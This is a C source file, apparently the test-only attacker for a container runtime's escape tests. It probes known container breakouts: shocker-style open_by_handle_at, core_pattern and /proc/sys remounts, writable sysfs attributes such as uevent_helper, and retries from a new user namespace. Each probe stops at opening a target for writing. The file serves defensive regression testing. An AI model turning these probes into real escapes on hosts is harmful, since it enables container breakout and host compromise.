/* The attacker of ctr's attack tests (test/integration/attack.test.ts): run
 * as root inside a container, it tries the escapes open to a container that
 * runs as root on a host without an LSM, and reports for each whether it got
 * through. It never changes host state: where an attack would end in a write
 * to a host-global file, it stops at open(O_WRONLY) and closes the
 * descriptor unwritten; its mounts live in the container's own mount
 * namespace.
 *
 *   test-attack handle FILE
 *       on the host: print FILE's handle as TYPE:HEX (name_to_handle_at)
 *   test-attack run --dir DIR [--handle TYPE:HEX --secret TEXT]
 *       the attacks, one line each: "NAME blocked DETAIL" or
 *       "NAME ESCAPED DETAIL"; DIR is an empty directory to mount on
 *
 * The attacks:
 *   shocker       open_by_handle_at(2) through a descriptor of the
 *                 container's root: the host file's handle (a file the
 *                 container cannot name), then the classic guess, the
 *                 filesystem root (ext4: inode 2, generation 0)
 *   core_pattern  open the container's /proc/sys/kernel/core_pattern for
 *                 writing, then mount a fresh procfs on DIR and open its
 *                 sys/kernel/core_pattern (host code execution at the next
 *                 crash)
 *   proc_sys_rw   remount /proc/sys read-write, or unmount it to reveal the
 *                 writable /proc/sys below, then open kernel/core_pattern
 *                 for writing
 *   sysfs_rw      mount a fresh sysfs on DIR, or remount /sys read-write
 *                 (the bind, then the superblock), then open a host-global
 *                 attribute for writing
 * core_pattern, proc_sys_rw and sysfs_rw are tried twice: as the container's
 * root, then from a new user namespace (where the capability bounding set
 * is full again) that maps its root to the caller's uid, with new mount, pid
 * and network namespaces. An attack is ESCAPED when any way got through.
 *
 * Built by `make -C native tests` for the test suite only, never at install.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/statvfs.h>
#include <sys/wait.h>
#include <unistd.h>

#define DETAIL_MAX 2048

struct report {
	char text[DETAIL_MAX];
	size_t len;
};

/* Host-global sysfs attributes that root may open for writing; opening does
 * not change anything. The first that exists in a fresh sysfs is tried
 * (uevent_helper, the classic one, exists only with CONFIG_UEVENT_HELPER). */
static const char *const SYSFS_TARGETS[] = {
	"kernel/uevent_helper", "power/state", "kernel/mm/transparent_hugepage/enabled", "kernel/mm/ksm/run", NULL,
};

static const char *err_name(int e)
{
	const char *name = strerrorname_np(e);
	return name ? name : "E?";
}

static void note(struct report *r, const char *fmt, ...)
{
	va_list ap;
	int n;

	if (r->len + 3 >= sizeof(r->text))
		return;
	if (r->len > 0) {
		r->text[r->len++] = ';';
		r->text[r->len++] = ' ';
	}
	va_start(ap, fmt);
	n = vsnprintf(r->text + r->len, sizeof(r->text) - r->len, fmt, ap);
	va_end(ap);
	if (n > 0)
		r->len += (size_t)n < sizeof(r->text) - r->len ? (size_t)n : sizeof(r->text) - r->len - 1;
}

/* Opens PATH for writing and closes it unwritten. 1 if it opened. */
static int open_write(struct report *r, const char *label, const char *path)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC | O_NOCTTY);

	if (fd < 0) {
		note(r, "open %s for writing: %s", label, err_name(errno));
		return 0;
	}
	close(fd);
	note(r, "opened %s for writing", label);
	return 1;
}

/* The per-mount flags a bind remount must keep (the kernel refuses to
 * clear locked ones), read back from statvfs. */
static unsigned long kept_flags(const char *path)
{
	struct statvfs st;
	unsigned long flags = 0;

	if (statvfs(path, &st) < 0)
		return 0;
	if (st.f_flag & ST_NOSUID)
		flags |= MS_NOSUID;
	if (st.f_flag & ST_NODEV)
		flags |= MS_NODEV;
	if (st.f_flag & ST_NOEXEC)
		flags |= MS_NOEXEC;
	return flags;
}

static int remount_rw(struct report *r, const char *path)
{
	if (mount(NULL, path, NULL, MS_REMOUNT | MS_BIND | kept_flags(path), NULL) < 0) {
		note(r, "remount %s rw: %s", path, err_name(errno));
		return 0;
	}
	note(r, "remounted %s rw", path);
	return 1;
}

static int core_pattern(struct report *r, const char *dir)
{
	char path[4096];
	int got;

	if (open_write(r, "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/core_pattern"))
		return 1;
	if (mount("proc", dir, "proc", MS_NOSUID | MS_NODEV | MS_NOEXEC, NULL) < 0) {
		note(r, "mount a fresh proc: %s", err_name(errno));
		return 0;
	}
	note(r, "mounted a fresh proc");
	snprintf(path, sizeof(path), "%s/sys/kernel/core_pattern", dir);
	got = open_write(r, "its kernel/core_pattern", path);
	(void)umount2(dir, MNT_DETACH);
	return got;
}

static int proc_sys_rw(struct report *r, const char *dir)
{
	(void)dir;
	if (remount_rw(r, "/proc/sys") && open_write(r, "kernel/core_pattern", "/proc/sys/kernel/core_pattern"))
		return 1;
	if (umount2("/proc/sys", MNT_DETACH) < 0) {
		note(r, "unmount /proc/sys: %s", err_name(errno));
		return 0;
	}
	note(r, "unmounted /proc/sys");
	return open_write(r, "the revealed kernel/core_pattern", "/proc/sys/kernel/core_pattern");
}

static int sysfs_attribute(struct report *r, const char *root)
{
	char path[4096];

	for (int i = 0; SYSFS_TARGETS[i]; i++) {
		snprintf(path, sizeof(path), "%s/%s", root, SYSFS_TARGETS[i]);
		if (access(path, F_OK) == 0)
			return open_write(r, SYSFS_TARGETS[i], path);
	}
	note(r, "no host-global attribute found under %s", root);
	return 0;
}

/* A fresh sysfs shares its network namespace's superblock, so it is
 * read-only where /sys was mounted read-only (sys:ro): then a remount of
 * the superblock (not just of the bind) is what makes it writable. */
static int sysfs_rw(struct report *r, const char *dir)
{
	int got;

	if (mount("sysfs", dir, "sysfs", MS_NOSUID | MS_NODEV | MS_NOEXEC, NULL) < 0) {
		note(r, "mount a fresh sysfs: %s", err_name(errno));
	} else {
		note(r, "mounted a fresh sysfs");
		got = sysfs_attribute(r, dir);
		(void)umount2(dir, MNT_DETACH);
		if (got)
			return 1;
	}
	if (remount_rw(r, "/sys") && sysfs_attribute(r, "/sys"))
		return 1;
	if (mount(NULL, "/sys", NULL, MS_REMOUNT | kept_flags("/sys"), NULL) < 0) {
		note(r, "remount the /sys superblock rw: %s", err_name(errno));
		return 0;
	}
	note(r, "remounted the /sys superblock rw");
	return sysfs_attribute(r, "/sys");
}

typedef int (*attack_fn)(struct report *, const char *);

static int write_file(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	ssize_t n;

	if (fd < 0)
		return -errno;
	n = write(fd, text, strlen(text));
	close(fd);
	return n == (ssize_t)strlen(text) ? 0 : -EIO;
}

/* In a child: a new user namespace mapping root to our uid and gid (no
 * capability needed for that one line), then new mount, pid and network
 * namespaces, and the attack from pid 1 there. Writes 'E' or 'B' and the
 * report to OUT. */
static int userns_child(attack_fn fn, const char *dir, int out)
{
	struct report r = {.len = 0};
	char map[64];
	uid_t uid = geteuid();
	gid_t gid = getegid();
	int got = 0, status;
	pid_t pid;

	if (unshare(CLONE_NEWUSER) < 0) {
		note(&r, "unshare(CLONE_NEWUSER): %s", err_name(errno));
		goto out;
	}
	snprintf(map, sizeof(map), "0 %u 1", (unsigned)uid);
	if (write_file("/proc/self/setgroups", "deny") < 0 || write_file("/proc/self/uid_map", map) < 0) {
		note(&r, "map root: %s", err_name(errno));
		goto out;
	}
	snprintf(map, sizeof(map), "0 %u 1", (unsigned)gid);
	if (write_file("/proc/self/gid_map", map) < 0) {
		note(&r, "map root's group: %s", err_name(errno));
		goto out;
	}
	if (unshare(CLONE_NEWNS | CLONE_NEWPID | CLONE_NEWNET) < 0) {
		note(&r, "unshare(mnt, pid, net): %s", err_name(errno));
		goto out;
	}
	(void)mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
	pid = fork();
	if (pid == 0) {
		got = fn(&r, dir);
		if (write(out, got ? "E" : "B", 1) != 1 || write(out, r.text, r.len) != (ssize_t)r.len)
			_exit(2);
		_exit(0);
	}
	if (pid < 0 || waitpid(pid, &status, 0) < 0) {
		note(&r, "fork: %s", err_name(errno));
		goto out;
	}
	return 0;
out:
	if (write(out, "B", 1) != 1 || write(out, r.text, r.len) != (ssize_t)r.len)
		return 2;
	return 0;
}

/* Runs FN in a new user namespace; 1 if it got through. Its report is added to R. */
static int in_userns(struct report *r, attack_fn fn, const char *dir)
{
	char buf[DETAIL_MAX + 1];
	size_t len = 0;
	ssize_t n;
	int fds[2], status;
	pid_t pid;

	if (pipe2(fds, O_CLOEXEC) < 0)
		return note(r, "userns: pipe: %s", err_name(errno)), 0;
	pid = fork();
	if (pid == 0) {
		close(fds[0]);
		_exit(userns_child(fn, dir, fds[1]));
	}
	close(fds[1]);
	while (len < sizeof(buf) - 1 && (n = read(fds[0], buf + len, sizeof(buf) - 1 - len)) > 0)
		len += (size_t)n;
	close(fds[0]);
	buf[len] = '\0';
	if (pid > 0)
		(void)waitpid(pid, &status, 0);
	if (len == 0)
		return note(r, "userns: no report"), 0;
	note(r, "userns: %s", buf + 1);
	return buf[0] == 'E';
}

static void run_twice(const char *name, attack_fn fn, const char *dir)
{
	struct report r = {.len = 0};
	int got = fn(&r, dir);

	if (!got)
		got = in_userns(&r, fn, dir);
	printf("%s %s %.*s\n", name, got ? "ESCAPED" : "blocked", (int)r.len, r.text);
}

static int parse_handle(const char *spec, struct file_handle **out)
{
	struct file_handle *h;
	const char *hex = strchr(spec, ':');
	size_t n;

	if (!hex || (strlen(hex + 1) % 2) != 0 || strlen(hex + 1) / 2 > MAX_HANDLE_SZ)
		return -EINVAL;
	n = strlen(hex + 1) / 2;
	h = calloc(1, sizeof(*h) + n);
	if (!h)
		return -ENOMEM;
	h->handle_type = atoi(spec);
	h->handle_bytes = (unsigned)n;
	for (size_t i = 0; i < n; i++) {
		unsigned byte;
		if (sscanf(hex + 1 + 2 * i, "%2x", &byte) != 1) {
			free(h);
			return -EINVAL;
		}
		((unsigned char *)h + offsetof(struct file_handle, f_handle))[i] = (unsigned char)byte;
	}
	*out = h;
	return 0;
}

/* open_by_handle_at through the container's root; 1 if it opened. */
static int by_handle(struct report *r, int mount_fd, struct file_handle *h, int flags, const char *what, const char *secret)
{
	char buf[256];
	ssize_t n;
	int fd = open_by_handle_at(mount_fd, h, flags | O_CLOEXEC);

	if (fd < 0) {
		note(r, "open_by_handle_at(%s): %s", what, err_name(errno));
		return 0;
	}
	n = (flags & O_DIRECTORY) ? 0 : read(fd, buf, sizeof(buf) - 1);
	close(fd);
	buf[n > 0 ? n : 0] = '\0';
	if (secret && n > 0)
		note(r, "opened %s: %s", what, strstr(buf, secret) ? "read the secret" : "read other content");
	else
		note(r, "opened %s", what);
	return 1;
}

static void shocker(const char *handle, const char *secret)
{
	struct report r = {.len = 0};
	struct {
		struct file_handle h;
		unsigned int ino_gen[2];
	} root = {.h = {.handle_bytes = 8, .handle_type = 1 /* FILEID_INO32_GEN */}, .ino_gen = {2, 0}};
	struct file_handle *h = NULL;
	int mount_fd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC), got = 0;

	if (mount_fd < 0) {
		printf("shocker error open /: %s\n", err_name(errno));
		return;
	}
	if (handle && parse_handle(handle, &h) < 0) {
		printf("shocker error bad handle %s\n", handle);
		close(mount_fd);
		return;
	}
	if (h)
		got = by_handle(&r, mount_fd, h, O_RDONLY, "the host file's handle", secret);
	got |= by_handle(&r, mount_fd, &root.h, O_RDONLY | O_DIRECTORY, "the guessed filesystem root", NULL);
	printf("shocker %s %.*s\n", got ? "ESCAPED" : "blocked", (int)r.len, r.text);
	free(h);
	close(mount_fd);
}

static int print_handle(const char *path)
{
	struct file_handle *h = calloc(1, sizeof(*h) + MAX_HANDLE_SZ);
	const unsigned char *bytes = (const unsigned char *)h + offsetof(struct file_handle, f_handle);
	int mount_id;

	if (!h)
		return 1;
	h->handle_bytes = MAX_HANDLE_SZ;
	if (name_to_handle_at(AT_FDCWD, path, h, &mount_id, 0) < 0) {
		fprintf(stderr, "name_to_handle_at %s: %s\n", path, err_name(errno));
		free(h);
		return 1;
	}
	printf("%d:", h->handle_type);
	for (unsigned i = 0; i < h->handle_bytes; i++)
		printf("%02x", bytes[i]);
	printf("\n");
	free(h);
	return 0;
}

int main(int argc, char **argv)
{
	const char *dir = NULL, *handle = NULL, *secret = NULL;

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 3 && strcmp(argv[1], "handle") == 0)
		return print_handle(argv[2]);
	if (argc < 2 || strcmp(argv[1], "run") != 0)
		goto usage;
	for (int i = 2; i + 1 < argc; i += 2) {
		if (strcmp(argv[i], "--dir") == 0)
			dir = argv[i + 1];
		else if (strcmp(argv[i], "--handle") == 0)
			handle = argv[i + 1];
		else if (strcmp(argv[i], "--secret") == 0)
			secret = argv[i + 1];
		else
			goto usage;
	}
	if (!dir || argc % 2 != 0)
		goto usage;
	shocker(handle, secret);
	run_twice("core_pattern", core_pattern, dir);
	run_twice("proc_sys_rw", proc_sys_rw, dir);
	run_twice("sysfs_rw", sysfs_rw, dir);
	return 0;
usage:
	fprintf(stderr, "usage: test-attack handle FILE | run --dir DIR [--handle TYPE:HEX --secret TEXT]\n");
	return 2;
}
